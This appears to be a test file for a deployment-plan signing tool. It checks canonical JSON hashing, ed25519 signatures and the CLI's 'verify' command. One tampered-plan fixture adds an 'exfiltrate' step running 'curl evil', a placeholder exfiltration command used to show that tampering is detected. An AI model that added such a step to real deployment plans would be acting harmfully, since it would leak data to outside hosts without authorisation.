import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import {test} from 'node:test';
import {canonicalJson} from '../../source/core/canonical-json.js';
import {barePlanHash, parseSignature, planHash, signPlan, verifyPlanSignature} from '../../source/interop/plan-signature.js';
import {runCli} from '../helpers/run-cli.js';
import {tempHome} from '../helpers/temp-home.js';

const PLAN = {
	target: 'api',
	steps: [
		{name: 'migrate', run: 'npm run migrate'},
		{name: 'deploy', run: 'kubectl apply -f k8s/'},
	],
	env: {REGION: 'eu-west-1', API_TOKEN: '<redacted:40chars>'},
};

function keyPair(): {publicPem: string; privateKey: crypto.KeyObject} {
	const {publicKey, privateKey} = crypto.generateKeyPairSync('ed25519');
	return {publicPem: publicKey.export({type: 'spki', format: 'pem'}) as string, privateKey};
}

test('canonical JSON sorts keys at every depth and keeps array order; the hash is its sha256', () => {
	assert.equal(canonicalJson({b: [true, null, 'x'], a: 1}), '{"a":1,"b":[true,null,"x"]}');
	assert.equal(canonicalJson({z: {y: 1, x: [{b: 2, a: 1.5}]}, é: 'ü'}), '{"z":{"x":[{"a":1.5,"b":2}],"y":1},"é":"ü"}');
	assert.equal(planHash({b: [true, null, 'x'], a: 1}), 'eca8cfb31ab74533e1eb2f4c74d2d55dfe3c79ac704787e54be8647ea7777eb1');
	// Formatting is not content: the same plan re-indented hashes the same.
	assert.equal(planHash(JSON.parse(JSON.stringify(PLAN, null, 4))), planHash(PLAN));
	assert.notEqual(planHash({...PLAN, target: 'web'}), planHash(PLAN));
});

test('a recorded hash may say its algorithm: "sha256:<HEX>" is the bare lowercase hex planHash gives', () => {
	const hash = planHash(PLAN);
	assert.equal(barePlanHash(`SHA256:${hash.toUpperCase()}`), hash);
	assert.equal(barePlanHash(hash), hash);
});

test('signatures: sign, verify, tamper, other key; raw or base64 files', () => {
	const mine = keyPair();
	const other = keyPair();
	const signature = signPlan(PLAN, mine.privateKey);
	const key = crypto.createPublicKey(mine.publicPem);
	assert.ok(verifyPlanSignature(PLAN, signature, key));
	assert.ok(!verifyPlanSignature({...PLAN, target: 'web'}, signature, key));
	assert.ok(!verifyPlanSignature(PLAN, signature, crypto.createPublicKey(other.publicPem)));
	assert.deepEqual(parseSignature(signature, 's'), signature);
	assert.deepEqual(parseSignature(Buffer.from(`${signature.toString('base64')}\n`), 's'), signature);
	assert.deepEqual(parseSignature(Buffer.from(signature.toString('base64url')), 's'), signature);
	assert.throws(() => parseSignature(Buffer.from('hello'), 'plan.sig'), /plan.sig is not an ed25519 signature/);
});

test('tracedeck verify: a good signature passes; tampering and wrong keys fail with one line', () => {
	const dir = tempHome('tracedeck-verify-');
	const mine = keyPair();
	const other = keyPair();
	const file = (name: string, content: string | Buffer): string => {
		fs.writeFileSync(path.join(dir, name), content);
		return path.join(dir, name);
	};

	const plan = file('plan.json', `${JSON.stringify(PLAN, null, 2)}\n`);
	file('plan.sig', signPlan(PLAN, mine.privateKey).toString('base64'));
	const raw = file('raw.sig', signPlan(PLAN, mine.privateKey));
	const pub = file('pub.pem', mine.publicPem);
	const otherPub = file('other.pem', other.publicPem);
	const rsa = file('rsa.pem', crypto.generateKeyPairSync('rsa', {modulusLength: 1024}).publicKey.export({type: 'spki', format: 'pem'}) as string);

	const ok = runCli(['verify', plan, '--key', pub]);
	assert.equal(ok.code, 0, ok.stderr);
	assert.equal(ok.stdout, `ok: ${plan} is signed by ${pub} (plan hash ${planHash(PLAN)})\n`);
	assert.equal(runCli(['verify', plan, '--sig', raw, '--key', pub]).code, 0);
	assert.equal(runCli(['verify', plan], {env: {TRACEDECK_PLAN_KEY: pub}}).code, 0);
	const json = runCli(['verify', plan, '--key', pub, '--json']);
	assert.deepEqual(JSON.parse(json.stdout), {ok: true, plan, signature: path.join(dir, 'plan.sig'), key: pub, plan_hash: planHash(PLAN)});

	const wrongKey = runCli(['verify', plan, '--key', otherPub]);
	assert.equal(wrongKey.code, 1);
	assert.equal(wrongKey.stderr, `tracedeck: ${plan}: signature ${path.join(dir, 'plan.sig')} does not verify with ${otherPub}: the plan was tampered with or signed by another key\n`);

	const tampered = file('tampered.json', JSON.stringify({...PLAN, steps: [...PLAN.steps, {name: 'exfiltrate', run: 'curl evil'}]}));
	const bad = runCli(['verify', tampered, '--sig', path.join(dir, 'plan.sig'), '--key', pub, '--json']);
	assert.equal(bad.code, 1);
	assert.equal(JSON.parse(bad.stdout).ok, false);
	assert.equal(bad.stderr.split('\n').length, 2, 'one line');

	const rsaKey = runCli(['verify', plan, '--key', rsa]);
	assert.equal(rsaKey.code, 2);
	assert.equal(rsaKey.stderr, `tracedeck: ${rsa} is a rsa key; plan signatures are ed25519\n`);
	assert.equal(runCli(['verify', plan]).code, 2);
	assert.equal(runCli(['verify', plan, '--sig', plan, '--key', pub]).code, 2, 'a signature file that is no signature');
	assert.equal(runCli(['verify', path.join(dir, 'missing.json'), '--key', pub]).code, 3);
	assert.match(runCli(['verify', '--help']).stdout, /canonical/);
});
